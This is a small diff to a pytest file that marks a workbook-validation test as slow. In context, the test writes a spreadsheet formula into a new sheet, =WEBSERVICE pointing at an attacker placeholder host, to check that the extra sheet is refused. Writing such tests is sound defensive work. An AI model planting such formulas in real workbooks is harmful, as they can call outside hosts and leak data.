@@ -154,6 +154,7 @@ def test_a_dimension_that_lies_stops_the_reading_after_the_parameters(book, tmp_
     assert len(outcome.stderr.splitlines()) == 21
 
 
+@pytest.mark.slow
 def test_an_extra_sheet_is_refused(book, tmp_path):
     wb = openpyxl.load_workbook(book)
     wb.create_sheet("Notes")["A1"] = "=WEBSERVICE(\"http://attacker.invalid\")"
